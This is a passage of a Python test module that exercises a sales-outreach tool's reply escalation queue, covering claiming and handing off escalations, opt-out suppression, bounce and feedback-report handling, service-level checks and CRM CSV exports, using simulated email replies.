"""The escalation queue end to end: people work it, runs never undo them, the CRM gets clean files.

One seeded world is sent to and answered by the market simulator once per module; every test
works on its own copy of that data folder.
"""

from __future__ import annotations

import csv
import json
import mailbox
import shutil
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

import dagster as dg
import pytest

from resources.defaults import build_resources
from sdr_assets.assembly import build_definitions
from sdr_assets.cli import app
from sdr_assets import optout_log
from sdr_assets.demo.market import simulate_replies
from sdr_assets.demo_run import sent_messages
from sdr_assets.domain import crm
from sdr_assets.domain import escalations as esc
from sdr_assets.escalations import escalation_sla
from sdr_assets.inbox import load_queue
from sdr_assets.runner import RunReport, run_replies
from sdr_assets.suppression import current_suppressions
from tests.command_line import CommandLine
from tests.conftest import environ_for
from tests.memory_instance import memory_instance
from tests.openings import two_plays_sent
from tests.replies import reply_to

MARKET_SEED = 5
ANSWERED_AT = datetime(2026, 11, 23, 12, tzinfo=UTC)
LATER = "2026-11-24T15:00:00+00:00"  # a Tuesday afternoon: the interested replies have waited a while


@pytest.fixture(scope="module")
def answered_world(tmp_path_factory, openings) -> Path:
    """The shipped plays, two of them approved and sent, the market's answers triaged at ``LATER``."""
    root = tmp_path_factory.mktemp("answered")
    with openings.open(two_plays_sent, root) as instance:
        resources = build_resources(environ_for(root))
        simulate_replies(sent_messages(resources["warehouse"]), Path(resources["mailbox"].path), seed=MARKET_SEED,
                         now=ANSWERED_AT)
        later = build_resources(environ_for(root, SDR_NOW=LATER))
        report = RunReport()
        run_replies(build_definitions(later), instance, report)
        assert not report.failed
    return root


@pytest.fixture
def world(answered_world: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "world"
    shutil.copytree(answered_world, copy)
    return copy


def _env(root: Path, now: str = LATER) -> dict[str, str]:
    return environ_for(root, SDR_NOW=now)


def _queue(root: Path, now: str = LATER) -> dict[str, dict]:
    resources = build_resources(_env(root, now))
    with resources["warehouse"].connect() as con:
        return {r["escalation_id"]: r for r in load_queue(con, resources["policy"].now(), resources["escalation_policy"])}


def _sdr(root: Path, *args: str, now: str = LATER):
    result = CommandLine().invoke(app, list(args), env=_env(root, now))
    return result


def _ok(root: Path, *args: str, now: str = LATER) -> str:
    result = _sdr(root, *args, now=now)
    assert result.exit_code == 0, result.output
    return result.output


def _replies(root: Path, now: str = LATER, analytics: bool = False) -> None:
    """A replies run as `sdr run` makes it before the plays send: triage only, unless ``analytics``
    (what a test reads of the reply counts needs them)."""
    resources = build_resources(_env(root, now))
    with memory_instance() as instance:
        report = RunReport()
        run_replies(build_definitions(resources), instance, report, analytics=analytics)
        assert not report.failed


def _send_of(root: Path, escalation: dict) -> dict:
    resources = build_resources(_env(root))
    with resources["warehouse"].connect() as con:
        cursor = con.execute("select * from send_ledger where play = ? and contact_email = ? and status = 'sent' "
                             "order by step limit 1", [escalation["play"], escalation["contact_email"]])
        return dict(zip([c[0] for c in cursor.description], cursor.fetchone()))


def _reply_again(root: Path, escalation: dict, body: str, at: datetime, n: int = 2) -> None:
    """The contact writes again on the same thread, answering our first email."""
    sent = _send_of(root, escalation)
    msg = reply_to(sent, body, at, message_id=f"<again-{n}-{sent['send_key']}@mail.example>",
                   quote="On Fri, Sam wrote:\n> Hi there\n")
    mailbox.Maildir(build_resources(_env(root))["mailbox"].path, create=True).add(msg)


def _unanswered_send(root: Path) -> dict:
    """A first email nobody has answered yet, as its ledger row."""
    with build_resources(_env(root))["warehouse"].connect() as con:
        cursor = con.execute("select * from send_ledger where status = 'sent' and step = 1 and contact_email not in "
                             "(select from_addr from reply_classifications) order by send_key limit 1")
        return dict(zip([c[0] for c in cursor.description], cursor.fetchone()))


def _by_label(queue: dict[str, dict], label: str) -> list[dict]:
    return sorted((r for r in queue.values() if r["label"] == label), key=lambda r: r["escalation_id"])


def test_the_market_answers_become_a_queue_with_contact_thread_and_owner(world):
    queue = _queue(world)
    assert {r["label"] for r in queue.values()} >= {"interested", "question", "objection"}
    assert len({r["thread_key"] for r in queue.values()}) == len(queue), "one escalation per thread"
    for r in queue.values():
        assert r["contact_name"] and r["title"] and r["company_name"] and r["signal_type"], r["escalation_id"]
        assert r["status"] == "open" and r["owner"] == r["routed_to"]
        assert r["owner"] in {"Dana Whitfield", "Priya Raman"}, "routed to the play's owner by default"
        messages = json.loads(r["thread"])
        assert [m["direction"] for m in messages][:1] == ["out"] and messages[-1]["direction"] == "in"
        assert r["suggested_response"]
    listed = json.loads(_ok(world, "inbox", "--json"))["escalations"]
    priorities = [r["priority"] for r in listed]
    assert priorities == sorted(priorities), "most urgent first"
    assert listed[0]["label"] == "interested"


def test_people_work_the_queue_and_two_runs_lose_nothing(world):
    queue = _queue(world)
    claimed, handled_meeting = _by_label(queue, "interested")[:2]
    snoozed, disqualified = _by_label(queue, "objection")[:2]
    question = _by_label(queue, "question")[0]

    _ok(world, "claim", claimed["escalation_id"], "--by", "Sam Lee")
    _ok(world, "note", claimed["escalation_id"], "Called, she wants pricing first", "--by", "Sam Lee")
    _ok(world, "snooze", snoozed["escalation_id"], "--until", "2026-12-07", "--by", "Dana Whitfield",
        "--note", "asked us to come back in December")
    _ok(world, "handled", handled_meeting["escalation_id"], "--by", "Priya Raman", "--outcome", "meeting",
        "--note", "booked for Thursday")
    _ok(world, "handled", disqualified["escalation_id"], "--by", "Dana Whitfield", "--outcome", "disqualified")

    # The same action from the Launchpad job, with its typed config.
    resources = build_resources(_env(world))
    with memory_instance() as instance:
        result = build_definitions(resources).resolve_job_def("work_escalation").execute_in_process(
            run_config={"ops": {"escalation_action_op": {"config": {
                "escalation_id": question["escalation_id"], "action": "handled", "by": "Priya Raman",
                "outcome": "nurture", "note": "not before Q2"}}}},
            instance=instance)
    assert result.success
    # Refused, with a reason, and nothing recorded: a nameless claim and a second hand-off.
    assert _sdr(world, "claim", claimed["escalation_id"], "--by", " ").exit_code == 1
    assert _sdr(world, "handled", disqualified["escalation_id"], "--by", "X", "--outcome", "other").exit_code == 1
    before = _queue(world)

    # New replies: the booked contact writes again, the claimed one too; then the pipeline runs twice.
    _reply_again(world, handled_meeting, "Could we move the call to Friday? Same time works.",
                 datetime(2026, 11, 25, 10, tzinfo=UTC))
    _reply_again(world, claimed, "Following up: can you send pricing before we talk?",
                 datetime(2026, 11, 25, 11, tzinfo=UTC))
    after_now = "2026-11-25T12:00:00+00:00"
    _replies(world, after_now)
    _replies(world, after_now)
    after = _queue(world, after_now)

    assert set(after) == set(before), "no escalation added or lost: replies joined their threads"
    c = after[claimed["escalation_id"]]
    assert (c["status"], c["owner"], c["reply_count"]) == ("claimed", "Sam Lee", 2)
    assert [n["text"] for n in c["notes"]] == ["Called, she wants pricing first"]
    s = after[snoozed["escalation_id"]]
    assert (s["status"], s["snoozed_until"]) == ("snoozed", datetime(2026, 12, 7, tzinfo=UTC))
    assert s["notes"][0]["text"] == "asked us to come back in December"
    m = after[handled_meeting["escalation_id"]]
    assert (m["status"], m["owner"], m["reopened"], m["reply_count"]) == ("open", "Priya Raman", True, 2)
    assert "Friday" in m["reply_text"]
    d = after[disqualified["escalation_id"]]
    assert (d["status"], d["outcome"], d["handled_by"]) == ("handled", "disqualified", "Dana Whitfield")
    q = after[question["escalation_id"]]
    assert (q["status"], q["outcome"], q["notes"][0]["text"]) == ("handled", "nurture", "not before Q2")

    with build_resources(_env(world))["warehouse"].connect() as con:
        people = con.execute("select actor, action from escalation_events where actor <> 'pipeline' "
                             "order by event_id").fetchall()
        replies = con.execute("select message_id, count(*) from escalation_events where action = 'reply' "
                              "group by all having count(*) > 1").fetchall()
        meetings = con.execute("select escalation_id, recorded_by, source from meetings").fetchall()
        stopped = dict(con.execute("select email, hold from sequence_holds").fetchall())
    assert people == [("Sam Lee", "claim"), ("Sam Lee", "note"), ("Dana Whitfield", "snooze"),
                      ("Priya Raman", "handle"), ("Dana Whitfield", "handle"), ("Priya Raman", "handle")]
    assert replies == [], "each reply is logged once however often the pipeline runs"
    assert meetings == [(handled_meeting["escalation_id"], "Priya Raman", "escalation")]
    assert stopped[handled_meeting["contact_email"]] == "stop", "a later reply keeps the sequence stopped"

    status = json.loads(_ok(world, "status", "--json", now=after_now))
    assert status["meetings"] == {"total": 1, "by_play": {handled_meeting["play"]: 1}}
    assert status["escalation_queue"]["claimed"] == 1 and status["escalation_queue"]["handled"] == 2


def test_an_opt_out_a_person_reads_in_a_reply_suppresses_the_contact_once_and_for_good(world):
    objection, other = _by_label(_queue(world), "objection")[:2]
    contact = objection["contact_email"]
    resources = build_resources(_env(world))

    def suppressed(address: str) -> str | None:
        with resources["warehouse"].connect() as con:
            return current_suppressions(con, resources["paths"].data_dir).reason_for(address)

    def events() -> list[tuple]:
        with resources["warehouse"].connect() as con:
            return con.execute("select target, reason, source, recorded_by from suppression_events "
                               "where reason = 'unsubscribe_reply' order by seq").fetchall()

    before = events()
    assert suppressed(contact) is None
    said = _ok(world, "handled", objection["escalation_id"], "--by", "Dana Whitfield", "--outcome", "opted_out")
    assert f"{contact} is suppressed" in " ".join(said.split())

    row = _queue(world)[objection["escalation_id"]]
    assert (row["status"], row["outcome"], row["handled_by"]) == ("handled", "opted_out", "Dana Whitfield")
    assert events() == [*before, (contact, "unsubscribe_reply", objection["message_id"], "Dana Whitfield")]
    assert suppressed(contact) == "unsubscribe_reply"
    # An opt-out is no manual entry: nobody lifts it by hand.
    assert _sdr(world, "suppress", "lift", contact, "--by", "Sam Lee", "--reason", "test").exit_code == 1
    _replies(world)
    assert events() == [*before, (contact, "unsubscribe_reply", objection["message_id"], "Dana Whitfield")]

    with memory_instance() as instance:
        job = build_definitions(resources).resolve_job_def("work_escalation")
        claimed = job.execute_in_process(run_config={"ops": {"escalation_action_op": {"config": {
            "escalation_id": other["escalation_id"], "action": "claim", "by": "Priya Raman",
            "outcome": "opted_out"}}}}, instance=instance, raise_on_error=False)
        assert not claimed.success, "an opt-out chosen beside a claim is refused, not recorded as a claim"
        (failure,) = [e for e in claimed.all_events if e.is_step_failure]
        assert "Nothing recorded: an outcome (opted_out) closes an escalation" in failure.step_failure_data.error.message
        assert not claimed.get_asset_materialization_events()
        assert suppressed(other["contact_email"]) is None
        result = job.execute_in_process(
            run_config={"ops": {"escalation_action_op": {"config": {
                "escalation_id": other["escalation_id"], "action": "handled", "by": "Priya Raman",
                "outcome": "opted_out"}}}},
            instance=instance)
        assert result.success
        changed = {e.asset_key.to_user_string() for e in result.get_asset_materialization_events()}
    assert changed == {"escalation_events", "suppression_events"}
    assert suppressed(other["contact_email"]) == "unsubscribe_reply"


def test_a_reply_that_may_ask_to_stop_gets_no_suggested_answer_but_the_command_that_records_one(world):
    """A new reply with words of opting out the rule did not take for a request marks its conversation in
    the inbox, the CSV and the thread, which suggest no answer but the hand-off that records the opt-out.
    Once a person took it, a plain question on the thread gets an answer suggested again."""
    objection = _by_label(_queue(world), "objection")[0]
    eid = objection["escalation_id"]
    assert objection["suggested_response"] and not objection["may_ask_to_stop"]
    _reply_again(world, objection, "Does your tool track unsubscribe rates?", datetime(2026, 11, 24, 16, tzinfo=UTC))
    asked = "2026-11-24T17:00:00+00:00"
    _replies(world, asked)

    row = _queue(world, asked)[eid]
    assert (row["may_ask_to_stop"], row["suggested_response"]) == (True, "")
    listed = " ".join(_ok(world, "inbox", now=asked).split())
    assert f"May ask us to stop, in words the opt-out rule does not take for a request: {eid}." in listed
    assert "handled ID --by NAME --outcome opted_out (it suppresses the contact" in listed
    shown = " ".join(_ok(world, "thread", eid, now=asked).split())
    assert f"does not take for a request. If it does: sdr handled {eid} --by NAME --outcome opted_out" in shown
    as_json = {r["escalation_id"]: r for r in json.loads(_ok(world, "inbox", "--json", now=asked))["escalations"]}
    assert as_json[eid]["may_ask_to_stop"] is True
    with open(world / "exports" / "escalations.csv", newline="") as fh:
        flags = {r["escalation_id"]: r["may_ask_to_stop"] for r in csv.DictReader(fh)}
    assert flags[eid] == "True" and set(flags.values()) == {"True", "False"}
    assert _escalations_run(world, asked)[0]["may_ask_to_stop"] == 1, "the UI counts them on the asset"

    _ok(world, "claim", eid, "--by", "Dana Whitfield", now=asked)
    _reply_again(world, objection, "Also, what does onboarding look like?", datetime(2026, 11, 24, 18, tzinfo=UTC),
                 n=3)
    later = "2026-11-24T19:00:00+00:00"
    _replies(world, later)
    row = _queue(world, later)[eid]
    assert row["may_ask_to_stop"] is False and row["suggested_response"]
    assert "May ask us to stop" not in _ok(world, "inbox", now=later)


def test_a_colleagues_request_to_stop_mailing_the_contact_gets_no_sales_answer_and_is_no_lead(world):
    """A colleague asks on the contact's thread to unsubscribe her: triage leaves her suppression to a
    person, and the queue leaves the decision to them too, with no answer suggested, listed with the
    hand-off that records it, and no CRM lead until then."""
    sent = _unanswered_send(world)
    contact, domain = sent["contact_email"], sent["contact_email"].partition("@")[2]
    msg = reply_to(sent, "Please unsubscribe my colleague, she does not want these emails.",
                   datetime(2026, 11, 24, 9, tzinfo=UTC), message_id="<stop-for-her@mail.example>")
    msg.replace_header("From", f"Bob Stone <bob.stone@{domain}>")
    _add(world, msg)
    _replies(world)
    with build_resources(_env(world))["warehouse"].connect() as con:
        triaged = con.execute("select label, needs_review from reply_classifications where message_id = ?",
                              ["<stop-for-her@mail.example>"]).fetchone()
    assert triaged == ("unsubscribe", True), "a person decides whether she is suppressed"
    resources = build_resources(_env(world))
    with resources["warehouse"].connect() as con:
        assert current_suppressions(con, resources["paths"].data_dir).reason_for(contact) is None
    row = next(r for r in _queue(world).values() if r["contact_email"] == contact)
    assert (row["may_ask_to_stop"], row["suggested_response"]) == (True, ""), row["suggested_response"]
    listed = " ".join(_ok(world, "inbox").split())
    assert f"May ask us to stop, in words the opt-out rule does not take for a request: {row['escalation_id']}" \
        in listed and "--outcome opted_out" in listed
    out = world / "crm"
    _ok(world, "export", "crm", "--format", "salesforce", "--out", str(out))
    with (out / "salesforce_leads.csv").open(newline="", encoding="utf-8") as fh:
        assert contact not in {lead["Email"] for lead in csv.DictReader(fh)}
    _ok(world, "handled", row["escalation_id"], "--by", "Dana Whitfield", "--outcome", "opted_out")
    _ok(world, "export", "crm", "--format", "salesforce", "--out", str(out))
    with (out / "salesforce_leads.csv").open(newline="", encoding="utf-8") as fh:
        (lead,) = [lead for lead in csv.DictReader(fh) if lead["Email"] == contact]
    assert lead["Status"].startswith("Closed"), "once decided, the CRM learns she opted out"


def test_a_claim_on_someone_elses_escalation_is_refused_unless_taken_over_and_logged(world):
    interested = _by_label(_queue(world), "interested")[0]
    eid = interested["escalation_id"]
    _ok(world, "claim", eid, "--by", "Sam Lee")
    refused = _sdr(world, "claim", eid, "--by", "Mia Chen")
    assert refused.exit_code == 1 and f"{eid} is claimed by Sam Lee" in refused.output
    assert _queue(world)[eid]["owner"] == "Sam Lee"
    assert [r["escalation_id"] for r in json.loads(_ok(world, "inbox", "--mine", "Sam Lee", "--json"))[
        "escalations"]] == [eid]
    taken = _ok(world, "claim", eid, "--by", "Mia Chen", "--take-over", "--note", "Sam is on leave")
    assert f"Mia Chen claimed {eid} from Sam Lee" in taken
    row = _queue(world)[eid]
    assert (row["owner"], row["status"]) == ("Mia Chen", "claimed")
    with build_resources(_env(world))["warehouse"].connect() as con:
        claims = con.execute("select actor, note from escalation_events where escalation_id = ? and action = 'claim' "
                             "order by event_id", [eid]).fetchall()
    assert claims == [("Sam Lee", None), ("Mia Chen", "took over from Sam Lee: Sam is on leave")]


def test_closing_or_snoozing_someone_elses_escalation_is_refused_unless_taken_over_and_logged(world):
    interested = _by_label(_queue(world), "interested")[0]
    eid = interested["escalation_id"]
    _ok(world, "claim", eid, "--by", "Sam Lee")
    for action in (["handled", eid, "--by", "Mia Chen", "--outcome", "disqualified"],
                   ["snooze", eid, "--by", "Mia Chen", "--until", "2026-12-28"]):
        refused = _sdr(world, *action)
        assert refused.exit_code == 1 and f"{eid} is claimed by Sam Lee" in " ".join(refused.output.split())
    assert (_queue(world)[eid]["status"], _queue(world)[eid]["owner"]) == ("claimed", "Sam Lee")
    _ok(world, "note", eid, "Called her, no answer", "--by", "Mia Chen")
    taken = _ok(world, "handled", eid, "--by", "Mia Chen", "--outcome", "nurture", "--take-over",
                "--note", "Sam is on leave")
    assert "from Sam Lee" in taken
    assert (_queue(world)[eid]["status"], _queue(world)[eid]["handled_by"]) == ("handled", "Mia Chen")
    with build_resources(_env(world))["warehouse"].connect() as con:
        handled = con.execute("select actor, note from escalation_events where escalation_id = ? "
                              "and action = 'handle'", [eid]).fetchall()
    assert handled == [("Mia Chen", "took over from Sam Lee: Sam is on leave")]


def test_a_second_reply_updates_the_escalation_and_its_suggested_answer(world):
    queue = _queue(world)
    objection = _by_label(queue, "objection")[0]
    _reply_again(world, objection, "Actually, timing is good now. Can we talk Tuesday at 2pm?",
                 datetime(2026, 11, 24, 16, tzinfo=UTC))
    _replies(world, "2026-11-24T17:00:00+00:00")
    after = _queue(world, "2026-11-24T17:00:00+00:00")
    assert len(after) == len(queue)
    row = after[objection["escalation_id"]]
    assert (row["label"], row["priority"], row["reply_count"]) == ("interested", 1, 2)
    assert [m["direction"] for m in json.loads(row["thread"])][-2:] == ["in", "in"]
    assert row["suggested_response"] != objection["suggested_response"]


def test_a_nudge_neither_restarts_the_wait_nor_demotes_an_unanswered_interested_reply(world):
    interested = _by_label(_queue(world), "interested")[0]
    assert interested["over_sla"]
    nudge = "Hello? Is anyone there? Could you send me the pricing?"
    _reply_again(world, interested, nudge, datetime(2026, 11, 24, 16, tzinfo=UTC))
    _replies(world, "2026-11-24T16:30:00+00:00")
    nudged = _queue(world, "2026-11-24T16:30:00+00:00")[interested["escalation_id"]]
    with build_resources(_env(world))["warehouse"].connect() as con:
        labels = [label for (label,) in con.execute(
            "select label from reply_classifications where from_addr = ? order by received_at",
            [interested["contact_email"]]).fetchall()]
    assert labels == ["interested", "question"], "the nudge alone is a question"
    assert (nudged["label"], nudged["priority"], nudged["reply_count"]) == ("interested", 1, 2)
    assert nudged["waiting_since"] == interested["waiting_since"] and nudged["over_sla"]
    assert nudge in nudged["reply_text"], "the newest reply is still the one shown"

    # Claimed, both replies are answered: the next one alone labels the conversation.
    _ok(world, "claim", interested["escalation_id"], "--by", "Sam Lee", now="2026-11-24T16:40:00+00:00")
    _reply_again(world, interested, "Could you send me the pricing first?", datetime(2026, 11, 25, 10, tzinfo=UTC),
                 n=3)
    _replies(world, "2026-11-25T10:30:00+00:00")
    after = _queue(world, "2026-11-25T10:30:00+00:00")[interested["escalation_id"]]
    assert (after["label"], after["priority"], after["status"], after["reply_count"]) == ("question", 2, "claimed", 3)


def test_a_new_reply_on_a_claimed_escalation_is_marked_for_its_owner(world):
    question = _by_label(_queue(world), "question")[0]
    _ok(world, "claim", question["escalation_id"], "--by", "Sam Lee")

    def mine(now: str) -> tuple[dict, str]:
        listed = json.loads(_ok(world, "inbox", "--mine", "Sam Lee", "--json", now=now))["escalations"]
        return next(r for r in listed if r["escalation_id"] == question["escalation_id"]), \
            _ok(world, "inbox", "--mine", "Sam Lee", now=now)

    _, table = mine(LATER)
    assert "(new" not in table
    _reply_again(world, question, "Please call me today before 3pm.", datetime(2026, 11, 25, 11, tzinfo=UTC))
    _replies(world, "2026-11-25T11:30:00+00:00")
    row, table = mine("2026-11-25T11:30:00+00:00")
    assert "(new" in table and row["waiting_since"].startswith("2026-11-25 11:00")
    assert (row["status"], row["new_reply"], row["reply_count"]) == ("claimed", True, 2)
    assert row["waiting_business_hours"] is None, "claimed: its owner has it, the service level does not"


def test_the_suggested_answer_greets_the_colleague_who_wrote_not_the_contact(world):
    sent = _unanswered_send(world)
    msg = reply_to(sent, "Hi, I run RevOps here and my colleague looped me in. We are interested - can we do a call "
                         "next week?", datetime(2026, 11, 24, 9, tzinfo=UTC), message_id="<colleague@mail.example>")
    msg.replace_header("From", f"Jane Doe <jane.doe@{sent['contact_email'].partition('@')[2]}>")
    mailbox.Maildir(build_resources(_env(world))["mailbox"].path, create=True).add(msg)
    _replies(world)
    row = next(r for r in _queue(world).values() if r["contact_email"] == sent["contact_email"])
    contact_first = row["first_name"]
    assert contact_first and contact_first != "Jane" and row["from_addr"].startswith("jane.doe@")
    assert row["label"] == "interested" and row["suggested_response"].startswith("Thanks Jane,"), \
        row["suggested_response"]
    assert contact_first not in row["suggested_response"]


def test_sdr_thread_heads_each_message_with_the_person_who_wrote_it(world):
    sent = _unanswered_send(world)
    domain = sent["contact_email"].partition("@")[2]
    _add(world, reply_to(sent, "Looping in my colleague Jane, who owns this.", datetime(2026, 11, 24, 8, tzinfo=UTC),
                         message_id="<contact-loops@mail.example>"))
    colleague = reply_to(sent, "Hi, I run RevOps here. We are interested - can we do a call next week?",
                         datetime(2026, 11, 24, 9, tzinfo=UTC), message_id="<colleague-writes@mail.example>")
    colleague.replace_header("From", f"Jane Doe <jane.doe@{domain}>")
    _add(world, colleague)
    _replies(world)
    row = next(r for r in _queue(world).values() if r["contact_email"] == sent["contact_email"])
    contact = f"{row['contact_name']} <{sent['contact_email']}>"
    assert row["contact_name"] and "Jane" not in row["contact_name"]
    output = _ok(world, "thread", row["escalation_id"])
    headings = [line for line in output.splitlines() if "←" in line]
    assert len(headings) == 2, output
    assert contact in headings[0], headings
    assert f"Jane Doe <jane.doe@{domain}>" in headings[1] and row["contact_name"] not in headings[1], headings
    inbound = [m for m in json.loads(_ok(world, "thread", row["escalation_id"], "--json"))["thread"]
               if m["direction"] == "in"]
    assert [m["name"] for m in inbound] == [row["contact_name"], "Jane Doe"]


def _add(root: Path, msg: EmailMessage | bytes) -> None:
    mailbox.Maildir(build_resources(_env(root))["mailbox"].path, create=True).add(msg)


def _feedback_report(sent: dict, feedback_type: str) -> bytes:
    """A mailbox provider's feedback report on ``sent``, its original's headers attached."""
    return f"""From: fbl@mx.provider.example
To: abuse@outreach.example
Subject: Feedback report
Date: Tue, 24 Nov 2026 10:00:00 +0000
Message-ID: <fbl-{sent['send_key']}@mx.provider.example>
MIME-Version: 1.0
Content-Type: multipart/report; report-type=feedback-report; boundary="b1"

--b1
Content-Type: text/plain

This is a feedback report.

--b1
Content-Type: message/feedback-report

Feedback-Type: {feedback_type}
User-Agent: Provider-FBL/1.0
Version: 1
Original-Rcpt-To: <{sent['contact_email']}>

--b1
Content-Type: text/rfc822-headers

From: {sent['mailbox']}
To: {sent['contact_email']}
Subject: {sent['subject']}
Message-ID: {sent['message_id']}

--b1--
""".encode()


def test_a_message_triage_leaves_to_a_person_reaches_the_inbox_for_review_and_counts_as_no_reply(world):
    sent = _unanswered_send(world)
    counted = json.loads(_ok(world, "status", "--json"))["sends_by_play"]
    stranger = EmailMessage()
    stranger["From"] = "Lee Park <lee.park@elsewhere.example>"
    stranger["To"] = sent["mailbox"]
    stranger["Subject"] = "Your outbound service"
    stranger["Date"] = format_datetime(datetime(2026, 11, 24, 9, tzinfo=UTC))
    stranger["Message-ID"] = "<fresh@elsewhere.example>"
    stranger.set_content("Hello, a friend forwarded me your email. Do you also work with agencies?")
    _add(world, stranger)
    _add(world, _feedback_report(sent, "virus"))
    _replies(world, analytics=True)
    with build_resources(_env(world))["warehouse"].connect() as con:
        triaged = con.execute("select message_id, kind, needs_review, send_key from reply_classifications "
                              "where message_id in ('<fresh@elsewhere.example>', ?) order by message_id",
                              [f"<fbl-{sent['send_key']}@mx.provider.example>"]).fetchall()
    assert [t[1:3] for t in triaged] == [("other", True), ("other", True)]
    assert triaged[0][3] == sent["send_key"], "the report names our message"

    queue = _queue(world)
    review = {r["from_addr"]: r for r in queue.values() if r["label"] == "review"}
    assert set(review) == {"lee.park@elsewhere.example", "fbl@mx.provider.example"}
    report = review["fbl@mx.provider.example"]
    assert report["contact_email"] == sent["contact_email"] and "feedback report: virus" in report["reply_text"]
    assert "agencies" in review["lee.park@elsewhere.example"]["reply_text"]
    for r in review.values():
        assert (r["status"], r["priority"], r["waiting_business_hours"]) == ("open", esc.REVIEW_PRIORITY, None)
    listed = {r["escalation_id"]: r for r in json.loads(_ok(world, "inbox", "--json"))["escalations"]}
    assert all(listed[r["escalation_id"]]["label"] == "review" for r in review.values())
    table = _ok(world, "inbox")
    assert all(any(r["escalation_id"] in line and "review" in line for line in table.splitlines())
               for r in review.values()), table
    assert json.loads(_ok(world, "status", "--json"))["sends_by_play"] == counted, "no reply, no positive"

    def exported() -> set[str]:
        _ok(world, "export", "crm", "--format", "salesforce", "--out", str(world / "crm"))
        with (world / "crm" / "salesforce_leads.csv").open(newline="", encoding="utf-8") as fh:
            return {row["Email"] for row in csv.DictReader(fh)}

    as_leads = {r["contact_email"] or r["from_addr"]: a for a, r in review.items()}  # the report names our contact
    assert not exported() & set(as_leads), "no lead until a person places it"
    assert "2 left out" in _ok(world, "export", "crm", "--format", "csv", "--out", str(world / "crm"))
    stranger_id = review["lee.park@elsewhere.example"]["escalation_id"]
    _ok(world, "handled", stranger_id, "--by", "Sam Lee", "--outcome", "nurture")
    assert exported() & set(as_leads) == {"lee.park@elsewhere.example"}


def _bounce_with_note(sent: dict, note: str) -> bytes:
    """A mail server's report that our email to ``sent``'s contact failed, with a person's ``note``."""
    domain = sent["contact_email"].split("@")[1]
    return f"""From: Mail Delivery Subsystem <mailer-daemon@mx.{domain}>
To: {sent['mailbox']}
Subject: Delivery Status Notification (Failure)
Date: Tue, 24 Nov 2026 10:00:00 +0000
Message-ID: <dsn-{sent['send_key']}@mx.{domain}>
MIME-Version: 1.0
Auto-Submitted: auto-replied
Content-Type: multipart/report; report-type=delivery-status; boundary="B"

--B
Content-Type: text/plain

Delivery to the following recipient failed permanently:
  {sent['contact_email']}

{note.format(domain=domain)}
--B
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.{domain}

Final-Recipient: rfc822; {sent['contact_email']}
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 user unknown

--B
Content-Type: text/rfc822-headers

From: {sent['mailbox']}
Message-ID: {sent['message_id']}
To: {sent['contact_email']}
Subject: {sent['subject']}

--B--
""".encode()


def test_a_bounce_with_a_persons_note_reaches_the_inbox_and_still_suppresses_its_recipient(world):
    sent = _unanswered_send(world)
    _add(world, _bounce_with_note(sent, "Note from IT: this person has left; please write to kate.lind@{domain} "
                                        "instead, she runs RevOps now and asked for your deck."))
    _replies(world)
    contact, referral = sent["contact_email"], f"kate.lind@{sent['contact_email'].split('@')[1]}"
    resources = build_resources(_env(world))
    with resources["warehouse"].connect() as con:
        triaged = con.execute("select kind, hard, send_key from reply_classifications where message_id = ?",
                              [f"<dsn-{sent['send_key']}@mx.{contact.split('@')[1]}>"]).fetchall()
        assert triaged == [("bounce", True, sent["send_key"])]
        assert current_suppressions(con, resources["paths"].data_dir).reason_for(contact) == "hard_bounce"
    [row] = [r for r in _queue(world).values() if r["contact_email"] == contact]
    assert (row["label"], row["priority"], row["status"]) == ("review", esc.REVIEW_PRIORITY, "open")
    assert "asked for your deck" in row["reply_text"] and row["proposed_contacts"] == referral
    assert referral in _ok(world, "referrals", "list"), "the referral is proposed for a person to accept"


def test_the_service_level_check_warns_on_old_unclaimed_interest_and_not_once_handled(world):
    resources = build_resources(_env(world))
    check = lambda: escalation_sla(warehouse=resources["warehouse"], policy=resources["policy"],  # noqa: E731
                                   escalation_policy=resources["escalation_policy"], paths=resources["paths"])
    late = check()
    assert not late.passed and late.severity == dg.AssetCheckSeverity.WARN
    # The hourly schedule re-checks it alone, without rebuilding the escalations.
    with memory_instance() as instance:
        result = build_definitions(resources).resolve_job_def("escalation_sla_job").execute_in_process(
            instance=instance, raise_on_error=False)
    evaluations = [e.asset_check_evaluation_data for e in result.all_events
                   if e.event_type_value == "ASSET_CHECK_EVALUATION"]
    assert [(e.check_name, e.passed) for e in evaluations] == [("escalation_sla", False)]
    assert not result.asset_materializations_for_node("escalations")
    oldest = late.metadata["oldest_waiting"].value
    assert oldest["label"] in ("interested", "question") and oldest["business_hours"] > 4
    overdue = [r for r in _queue(world).values() if r["over_sla"]]
    assert late.metadata["over_sla"].value == len(overdue) > 0
    for r in overdue[:20]:
        assert f"`{r['escalation_id']}` {r['label']} from {r['contact_name'] or r['contact_email']} " \
               f"({r['company_name'] or '?'})" in late.metadata["late"].value
    for r in _queue(world).values():
        if r["label"] in ("interested", "question"):
            _ok(world, "handled", r["escalation_id"], "--by", "Sam Lee", "--outcome", "other")
    assert check().passed
    shown = json.loads(_ok(world, "status", "--json"))["escalation_queue"]
    assert shown["over_sla"] == 0 and shown["oldest_waiting"] is None


def test_a_queue_read_for_some_columns_is_the_whole_queue_cut_to_them(world):
    resources = build_resources(_env(world))
    with resources["warehouse"].connect() as con:
        now, hours = resources["policy"].now(), resources["escalation_policy"]
        whole = load_queue(con, now, hours)
        cut = load_queue(con, now, hours, columns=["company_name"])
    assert len(whole) > 5 and "thread" in whole[0] and "thread" not in cut[0]
    assert [{key: row[key] for key in cut[0]} for row in whole] == cut


def test_crm_exports_parse_back_with_the_crm_columns_and_filled_rows(world):
    queue = _queue(world)
    meeting = _by_label(queue, "interested")[0]
    _ok(world, "handled", meeting["escalation_id"], "--by", "Priya Raman", "--outcome", "meeting")
    out = world / "crm"
    _ok(world, "export", "crm", "--format", "hubspot", "--out", str(out))
    _ok(world, "export", "crm", "--format", "salesforce", "--out", str(out))
    _ok(world, "export", "crm", "--format", "csv", "--out", str(out))

    def read(name: str) -> tuple[list[str], list[dict]]:
        with (out / name).open(newline="", encoding="utf-8") as fh:
            reader = csv.DictReader(fh)
            return list(reader.fieldnames or []), list(reader)

    columns, contacts = read("hubspot_contacts.csv")
    assert tuple(columns) == crm.HUBSPOT_CONTACT_COLUMNS and len(contacts) == len(queue)
    for row in contacts:
        for field in ("First Name", "Last Name", "Email", "Company Name", "Job Title", "Lifecycle Stage",
